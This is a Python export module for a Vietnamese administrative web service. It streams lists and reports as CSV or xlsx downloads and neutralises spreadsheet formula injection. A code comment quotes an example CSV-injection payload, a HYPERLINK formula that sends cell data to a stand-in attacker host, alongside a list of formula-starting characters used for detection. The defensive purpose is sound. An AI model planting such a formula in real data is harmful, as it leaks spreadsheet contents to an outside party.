"""Downloads: any list or report as CSV (UTF-8 with BOM, so Excel shows Vietnamese) or as an
xlsx workbook, with a title row naming the period and the day the file was made. The one
writer of every file the service makes: whatever a user wrote is inert in it (text cells are
never formulas)."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import tempfile
from collections.abc import AsyncIterator, Callable, Iterable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, TypeVar, Union

from fastapi import Request
from fastapi.responses import Response, StreamingResponse
from starlette.types import Message, Send

log = logging.getLogger("dondoc.exports")
T = TypeVar("T")
Rows = Union["Batched", Iterable[Sequence[Any]]]

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def wanted(request: Request) -> str | None:
    """The download format asked for — by the file operation (`/tasks.csv`) or the Accept
    header — if any (JSON otherwise)."""
    chosen = request.scope.get("dondoc.download")
    if chosen is not None:
        return str(chosen)
    # The file operation's `{format}`, seen already by the dependencies (the download's own
    # pool and slot), before the operation marks the request.
    suffix = request.path_params.get("format")
    if suffix in ("csv", "xlsx"):
        return CSV if suffix == "csv" else XLSX
    accept = request.headers.get("accept", "")
    if XLSX in accept:
        return XLSX
    if CSV in accept:
        return CSV
    return None


class Rate(float):
    """A share (0–1) shown as a percentage: "40,0%" in a CSV file (the decimal comma offices
    write), the number with a percentage format in a workbook."""

    def text(self) -> str:
        return f"{self * 100:.1f}%".replace(".", ",")


def rate(value: float | None) -> Rate | None:
    return None if value is None else Rate(value)


def _cell(value: Any) -> Any:
    if isinstance(value, Rate):
        return float(value)
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    return value


# Files are built off the event loop, in one thread per process: requests keep being answered
# while a workbook is written, and several downloads take turns instead of all contending with
# the event loop for the interpreter at once.
_builder = ThreadPoolExecutor(max_workers=1, thread_name_prefix="dondoc-export")
BATCH = 1000


async def _off_loop(work: Callable[..., T], *args: Any) -> T:
    return await asyncio.get_running_loop().run_in_executor(_builder, work, *args)


@dataclass(frozen=True)
class Batched:
    """Rows read in batches as they come from the database (an async iterator of lists of
    records), and how one record becomes a row of cells: applied in the export thread, so
    that the event loop only waits for the next batch."""

    batches: AsyncIterator[list[Any]]
    convert: Callable[[Any], Sequence[Any]]


def _as_is(row: Sequence[Any]) -> Sequence[Any]:
    return row


async def _batches(rows: Rows) -> AsyncIterator[tuple[list[Any], Callable[[Any], Sequence[Any]]]]:
    if isinstance(rows, Batched):
        async for raw in rows.batches:
            yield raw, rows.convert
        return
    batch: list[Any] = []
    for row in rows:
        batch.append(row)
        if len(batch) >= BATCH:
            yield batch, _as_is
            batch = []
    if batch:
        yield batch, _as_is


# A text cell starting with one of these is a formula to a spreadsheet (OWASP, CSV injection):
# `=HYPERLINK("http://attacker/?"&A1)` in a proposal's title would run in the office's Excel.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_text(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, date):
        return f"{value:%d/%m/%Y}"  # as offices write a day
    if isinstance(value, Rate):
        return value.text()
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value  # shown as text, as OWASP recommends
    return value


def _csv_encode(lines: Iterable[Any], convert: Callable[[Any], Sequence[Any]] = _as_is) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for line in lines:
        writer.writerow([_csv_text(v) for v in convert(line)])
    return buffer.getvalue().encode()


async def _csv(title: list[str], headers: Sequence[str], rows: Rows) -> AsyncIterator[bytes]:
    yield "\ufeff".encode()  # a BOM, so that Excel reads UTF-8
    yield _csv_encode([*([t] for t in title), [], headers])
    async for batch, convert in _batches(rows):
        yield await _off_loop(_csv_encode, batch, convert)


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    """A cell of the workbook; text is always a string cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=_cell(value))
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would take a leading "=" for a formula
    elif isinstance(value, date) and not isinstance(value, datetime):
        cell.number_format = "DD/MM/YYYY"
    elif isinstance(value, Rate):
        cell.number_format = "0.0%"
    elif isinstance(value, int) and not isinstance(value, bool) and abs(value) >= 1000:
        cell.number_format = "#,##0"
    return cell


def _new_book(title: list[str], headers: Sequence[str], sheet_name: str) -> tuple[Any, Any]:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name)
    for i, text in enumerate(title):
        cell = _xlsx_cell(sheet, text)
        cell.font = Font(bold=i == 0)
        sheet.append([cell])
    sheet.append([])
    sheet.append([_xlsx_cell(sheet, h) for h in headers])
    return book, sheet


def _append_rows(sheet: Any, batch: list[Any], convert: Callable[[Any], Sequence[Any]]) -> None:
    for row in batch:
        sheet.append([_xlsx_cell(sheet, value) for value in convert(row)])


def append_sheet(
    book: Any, name: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]
) -> Any:
    """Another sheet of a workbook (a report's detail), written like the first."""
    from openpyxl.styles import Font

    sheet = book.create_sheet(name)
    heads = [_xlsx_cell(sheet, h) for h in headers]
    for cell in heads:
        cell.font = Font(bold=True)
    sheet.append(heads)
    _append_rows(sheet, list(rows), _as_is)
    return sheet


# More of an xlsx workbook once its rows are written: (the workbook, its first sheet) → charts,
# further sheets. Run off the event loop; CSV downloads have no such part.
Extra = Callable[[Any, Any], None]


async def _xlsx(
    title: list[str],
    headers: Sequence[str],
    rows: Rows,
    sheet_name: str,
    extra: Extra | None = None,
) -> AsyncIterator[bytes]:
    """openpyxl's write-only mode keeps rows on disk as they come; the finished file is then
    sent in chunks, so a large download never sits in memory whole."""
    book, sheet = await _off_loop(_new_book, title, headers, sheet_name)
    async for batch, convert in _batches(rows):
        await _off_loop(_append_rows, sheet, batch, convert)
    if extra is not None:
        await _off_loop(extra, book, sheet)
    with tempfile.TemporaryFile() as out:
        await _off_loop(book.save, out)
        out.seek(0)
        while chunk := await _off_loop(out.read, 256 * 1024):
            yield chunk


class _Stalled(Exception):
    pass


class DownloadResponse(StreamingResponse):
    """A streamed file whose client must keep reading: a send that cannot complete within
    `send_timeout` seconds (the client stopped reading) ends the download and its connection,
    and the rows being read are let go."""

    def __init__(self, content: AsyncIterator[bytes], send_timeout: float, **kwargs: Any) -> None:
        super().__init__(content, **kwargs)
        self.send_timeout = send_timeout
        self.source = content

    async def stream_response(self, send: Send) -> None:
        async def timed(message: Message) -> None:
            try:
                await asyncio.wait_for(send(message), self.send_timeout)
            except TimeoutError:
                raise _Stalled() from None

        try:
            await super().stream_response(timed)
        except _Stalled:
            log.warning(
                "download cut off: the client read nothing for %s s", f"{self.send_timeout:g}"
            )
        finally:
            aclose = getattr(self.source, "aclose", None)
            if aclose is not None:
                await aclose()


def stream(
    request: Request,
    kind: str,
    filename: str,
    title: list[str],
    headers: Sequence[str],
    rows: Rows,
    sheet_name: str = "Danh sách",
    extra: Extra | None = None,
) -> Response:
    """Any list or report as a download: rows at hand, or `Batched` as they are read."""
    send_timeout = request.app.state.settings.download_send_timeout_seconds
    disposition = {
        "Content-Disposition": f'attachment; filename="{filename}.{"csv" if kind == CSV else "xlsx"}"'
    }
    if kind == CSV:
        return DownloadResponse(
            _csv(title, headers, rows),
            send_timeout,
            media_type=f"{CSV}; charset=utf-8",
            headers=disposition,
        )
    return DownloadResponse(
        _xlsx(title, headers, rows, sheet_name, extra),
        send_timeout,
        media_type=XLSX,
        headers=disposition,
    )


def made_on(today: date) -> str:
    return f"Ngày lập: {today:%d/%m/%Y}"


# Vietnamese column headers of list downloads; a field not named here keeps its API name.
FIELD_HEADERS_VI = {
    "id": "ID",
    "code": "Mã",
    "name": "Tên",
    "short_name": "Tên viết tắt",
    "kind": "Loại",
    "title": "Trích yếu / tên",
    "content": "Nội dung",
    "status": "Trạng thái",
    "year": "Năm",
    "parent_id": "Đơn vị cấp trên",
    "successor_id": "Đơn vị kế thừa",
    "valid_from": "Hiệu lực từ",
    "valid_to": "Hiệu lực đến",
    "issued_on": "Ngày ban hành",
    "issuer_agency_id": "Cơ quan ban hành",
    "signer_name": "Người ký",
    "signer_title": "Chức vụ người ký",
    "document_number": "Số văn bản",
    "category": "Loại đề xuất",
    "submitting_agency_id": "Đơn vị đề xuất",
    "addressed_to_agency_id": "Gửi tới",
    "directive_id": "Văn bản chỉ đạo",
    "submitted_on": "Ngày gửi",
    "response_due_date": "Hạn trả lời",
    "resolution": "Kết quả xử lý",
    "response": "Trả lời",
    "requesting_agency_id": "Đơn vị đề nghị",
    "proposal_id": "Đề xuất",
    "project_name": "Dự án",
    "expenditure_type": "Loại chi",
    "purpose": "Mục đích",
    "funding_source": "Nguồn vốn",
    "fiscal_year": "Năm ngân sách",
    "amount_requested_vnd": "Số đề nghị (đồng)",
    "amount_recommended_vnd": "Số thẩm định (đồng)",
    "amount_approved_vnd": "Số phê duyệt (đồng)",
    "disbursed_vnd": "Đã giải ngân (đồng)",
    "disbursement_deadline": "Hạn giải ngân",
    "amount_vnd": "Số tiền (đồng)",
    "disbursed_on": "Ngày giải ngân",
    "reference": "Chứng từ",
    "reported_on": "Ngày báo cáo",
    "progress_percent": "Tiến độ (%)",
    "results": "Kết quả",
    "difficulties": "Khó khăn",
    "recommendations": "Kiến nghị",
    "reason": "Lý do",
    "proposed_due_date": "Hạn đề nghị",
    "approved_due_date": "Hạn được chấp thuận",
    "message": "Nội dung đôn đốc",
    "channel": "Hình thức",
    "action": "Thao tác",
    "actor_name": "Người thực hiện",
    "occurred_at": "Thời điểm",
    "changes": "Thay đổi",
    "comment": "Ghi chú",
    "created_at": "Ngày tạo",
    "updated_at": "Ngày cập nhật",
    "deleted_at": "Ngày xóa",
    "version": "Phiên bản",
    "allowed_actions": "Thao tác được phép",
}


def plain(value: Any) -> Any:
    """A cell value: lists and objects as JSON text, identifiers as text."""
    if isinstance(value, (list, dict)):
        import orjson

        return orjson.dumps(value, default=str).decode()
    if value is not None and not isinstance(value, (str, int, float, bool, date, datetime)):
        return str(value)
    return value


def list_download(request: Request, kind: str, items: list[dict[str, Any]]) -> Response:
    """Any collection as a download: every field, Vietnamese headers where known."""
    today = request.app.state.clock.today()
    resource = request.url.path.rstrip("/").rsplit("/", 1)[-1]
    fields = [f for f in (items[0].keys() if items else ["id"]) if f != "allowed_actions"]
    title = [f"Danh sách: {resource}", f"Số liệu tại ngày {today:%d/%m/%Y}", made_on(today)]
    rows = ([plain(item.get(f)) for f in fields] for item in items)
    return stream(
        request,
        kind,
        f"{resource}-{today}",
        title,
        [FIELD_HEADERS_VI.get(f, f) for f in fields],
        rows,
    )
